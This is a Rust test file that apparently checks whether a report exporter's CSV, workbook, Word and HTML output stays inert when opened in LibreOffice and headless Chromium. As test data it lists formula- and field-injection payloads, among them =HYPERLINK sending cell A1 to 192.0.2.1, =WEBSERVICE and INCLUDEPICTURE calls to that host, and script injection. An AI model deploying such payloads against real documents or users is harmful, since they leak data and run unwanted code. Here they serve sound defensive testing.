//! What an office program and a browser really do with the files: nothing is evaluated, nothing runs, nothing is fetched.
//! Skipped, said aloud, where they are not installed.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use nianbao::export::{Faces, Kind};

use super::{HARMLESS, payloads, report, written};
use crate::office::converted;
use crate::proofs::{Scale, figure, scale};

/// A file of all payloads of a format, each in a report of its own.
fn files(directory: &Path, kind: Kind, chosen: &[&str]) -> Vec<PathBuf> {
    let file = |(number, payload): (usize, &&str)| {
        let path = directory.join(format!("{number}.{}", kind.extension()));
        std::fs::write(&path, written(&report(payload), kind, &Faces::default()).unwrap()).unwrap();
        path
    };
    chosen.iter().enumerate().map(file).collect()
}

/// Payloads that would be seen to be evaluated: each of them computes, is a link, or is a field.
fn chosen() -> Vec<&'static str> {
    let telling = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "＝1+1",
        "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"点我\")",
        "=WEBSERVICE(\"http://192.0.2.1/\")",
        "\t=1+1",
        "{ INCLUDEPICTURE \"http://192.0.2.1/a.png\" }",
        "]]><w:p/>",
    ];
    scale().of(telling.into_iter().filter(|text| payloads::all().contains(text)).collect(), 1, 3)
}

#[test]
fn libreoffice_evaluates_nothing() {
    if scale() == Scale::Sample {
        return;
    }
    let chosen = chosen();
    for (kind, application, filter) in
        [(Kind::Csv, "--calc", "fods"), (Kind::Workbook, "--calc", "fods"), (Kind::Word, "--writer", "fodt")]
    {
        let directory = tempfile::tempdir().unwrap();
        let mut files = files(directory.path(), kind, &chosen);
        // The control: what is not neutralized is evaluated, so that it would be seen.
        if kind == Kind::Csv {
            let path = directory.path().join("control.csv");
            std::fs::write(&path, "甲,=1+1,=HYPERLINK(\"http://192.0.2.1/\")\n").unwrap();
            files.push(path);
        }
        let harmless = directory.path().join(format!("harmless.{}", kind.extension()));
        std::fs::write(&harmless, written(&report(HARMLESS), kind, &Faces::default()).unwrap()).unwrap();
        files.push(harmless);
        let Some(opened) = converted(directory.path(), &files, application, filter) else { return };
        let found: Vec<usize> = opened.iter().map(|flat| evaluated(flat)).collect();
        let (harmless, found) = found.split_last().unwrap();
        let found = match found.split_last() {
            Some((control, found)) if kind == Kind::Csv => {
                assert!(control > harmless, "the control was not evaluated");
                found
            }
            _ => found,
        };
        for (payload, found) in chosen.iter().zip(found) {
            assert_eq!(found, harmless, "{payload:?} in {kind:?}");
        }
        figure(
            "X1",
            &format!(
                "LibreOffice opened {} files of {kind:?} and evaluated none of {} payloads",
                files.len(),
                chosen.len()
            ),
        );
    }
}

/// How many formulas, links, fields and scripts a flat file of OpenDocument has.
fn evaluated(flat: &[u8]) -> usize {
    let text = String::from_utf8_lossy(flat);
    [
        "table:formula=",
        "xlink:href=\"http",
        "<text:a ",
        "<office:dde-source",
        "<text:database",
        "<draw:image ",
        "<text:section-source",
    ]
    .iter()
    .map(|mark| text.matches(mark).count())
    .sum()
}

#[test]
fn a_browser_runs_nothing() {
    if scale() == Scale::Sample {
        return;
    }
    let directory = tempfile::tempdir().unwrap();
    let path = |name: &str| directory.path().join(name);
    let dumped = |file: &Path| {
        let mut browser = Command::new("chromium");
        browser.args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--virtual-time-budget=2000",
            "--dump-dom",
        ]);
        browser
            .arg(format!("--user-data-dir={}", path("profile").display()))
            .arg(format!("file://{}", file.display()));
        browser
            .stderr(Stdio::null())
            .output()
            .ok()
            .map(|output| String::from_utf8_lossy(&output.stdout).into_owned())
    };
    let control = path("control.html");
    std::fs::write(&control, "<title>甲</title><script>document.title='ran'</script>").unwrap();
    let Some(dump) = dumped(&control) else { return crate::support::skipped("chromium is not here") };
    assert!(dump.contains("<title>ran</title>"), "the control did not run: {dump}");
    // All that could run, in one page each of the three kinds; a script that ran would change the title.
    let all: String = payloads::all().join("\n").replace("document.title='x'", "document.title='ran'");
    for kind in [Kind::Page, Kind::Fragment, Kind::Plain] {
        let file = path(&format!("all.{}", kind.extension()));
        std::fs::write(&file, written(&report(&all), kind, &Faces::default()).unwrap()).unwrap();
        let dump = dumped(&file).unwrap();
        assert!(dump.contains("云溪镇") || dump.contains("政府信息"), "{kind:?} was not opened: {dump}");
        assert!(!dump.contains("<title>ran</title>"), "{kind:?} ran a script");
        assert!(!dump.contains("<script") && !dump.contains("<iframe") && !dump.contains("<img"), "{kind:?}");
    }
    figure("X1", "a browser opened 3 pages with all payloads and ran none of them");
}
